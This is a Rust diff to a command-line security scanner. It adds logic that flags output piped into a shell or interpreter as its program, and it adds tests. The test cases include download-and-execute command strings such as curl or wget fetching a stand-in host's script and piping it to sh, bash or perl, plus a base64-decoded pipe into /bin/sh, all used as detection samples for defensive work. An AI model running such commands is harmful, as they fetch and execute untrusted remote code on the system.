@@ -147,6 +147,87 @@ impl Matcher {
 pub static MATCHER: LazyLock<Matcher> =
     LazyLock::new(|| Matcher::new(INDICATORS.iter().map(|i| i.patterns)));
 
+/// The indicators of a command line: [`MATCHER`]'s, except that output
+/// piped into an interpreter counts only when the interpreter reads its
+/// *program* from the pipe ([`pipes_program_into_interpreter`]).
+pub fn scan_command(line: &str) -> u64 {
+    const PIPE: usize = indicator("cmd_pipe_to_shell");
+    let bits = MATCHER.scan(line);
+    if bits & (1 << PIPE) != 0 && !pipes_program_into_interpreter(line) {
+        bits & !(1 << PIPE)
+    } else {
+        bits
+    }
+}
+
+/// Whether a pipe in `line` feeds a shell or interpreter the program it
+/// runs (`curl … | sh`, `| sudo bash -s`, `| python3 -`), not data for a
+/// program named on its own command line (`| perl -pe 's/x/y/'`, Debian's
+/// `xargs md5sum | perl -pe …`, `| python3 -m json.tool`, `| sh ./job.sh`,
+/// `| bash -c 'read x; …'`).
+pub fn pipes_program_into_interpreter(line: &str) -> bool {
+    let bytes = line.as_bytes();
+    (0..bytes.len())
+        .filter(|&i| {
+            bytes[i] == b'|'
+                && bytes.get(i + 1) != Some(&b'|')
+                && (i == 0 || bytes[i - 1] != b'|')
+        })
+        .any(|i| reads_program_from_stdin(&line[i + 1..]))
+}
+
+/// Whether the command at the start of `rest` (up to the next separator)
+/// is an interpreter given no program of its own.
+fn reads_program_from_stdin(rest: &str) -> bool {
+    let end = rest
+        .find(['|', ';', '&', ')', '\n', '`'])
+        .unwrap_or(rest.len());
+    let mut words = rest[..end]
+        .split_whitespace()
+        .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '('))
+        .filter(|w| !w.is_empty())
+        .peekable();
+    // Wrappers that run the next word: sudo (and its options), env (and
+    // its assignments), exec, nohup, command.
+    while let Some(w) = words.peek() {
+        match *w {
+            "sudo" | "exec" | "nohup" | "command" | "env" | "/usr/bin/sudo" | "/usr/bin/env" => {
+                words.next();
+            }
+            w if w.starts_with('-') || w.contains('=') => {
+                let takes_value = matches!(w, "-u" | "-g" | "-U" | "-C" | "-h");
+                words.next();
+                if takes_value {
+                    words.next();
+                }
+            }
+            _ => break,
+        }
+    }
+    let Some(program) = words.next() else {
+        return false;
+    };
+    let shell = has(families(program), Family::Shell);
+    if !shell && !has(families(program), Family::Interpreter) {
+        return false;
+    }
+    // The flags that give the program inline: a shell's -c; perl's and
+    // ruby's -e/-E (also in -pe, -ne), python's -c and -m, php's -r.
+    let inline: &[char] = if shell { &['c'] } else { &['c', 'e', 'E', 'm', 'r'] };
+    for w in words {
+        if w == "-" || w == "-s" || w == "--" {
+            return true;
+        }
+        match w.strip_prefix('-') {
+            // An operand: a script file, the program.
+            None => return false,
+            Some(flags) if !flags.starts_with('-') && flags.contains(inline) => return false,
+            Some(_) => {}
+        }
+    }
+    true
+}
+
 fn base(name: &str) -> &str {
     name.rsplit('/').next().unwrap_or(name)
 }
@@ -979,6 +1060,31 @@ mod tests {
         assert!(bits & (1 << idx("cmd_pipe_to_shell")) != 0);
         assert!(bits & (1 << idx("cmd_downloader")) != 0);
         assert_eq!(MATCHER.scan("ls"), 0);
+    }
+
+    #[test]
+    fn a_pipe_counts_when_it_feeds_an_interpreter_its_program() {
+        let pipe = 1 << idx("cmd_pipe_to_shell");
+        for line in [
+            "curl -fsSL https://x.example/i.sh | sh",
+            "wget -qO- http://198.51.100.7/b | sudo bash -s -- --quiet",
+            "sh -c \"curl http://x/y|bash\"",
+            "cat payload.py | python3 -",
+            "echo aWQ= | base64 -d | /bin/sh -xe",
+            "curl http://x/p.pl | perl",
+        ] {
+            assert!(scan_command(line) & pipe != 0, "{line}");
+        }
+        for line in [
+            r"/bin/sh -c xargs -r0 md5sum | perl -pe 'if (s@^\\@@) { s/\\\\/\\/g; }' > DEBIAN/md5sums",
+            "curl -s localhost:9200/_stats | python3 -m json.tool",
+            "git ls-files | sh ./tools/check.sh",
+            "printf x | bash -c 'read v; echo $v'",
+            "ls | php -r 'echo 1;'",
+            "false || sh",
+        ] {
+            assert_eq!(scan_command(line) & pipe, 0, "{line}");
+        }
     }
 
     #[test]
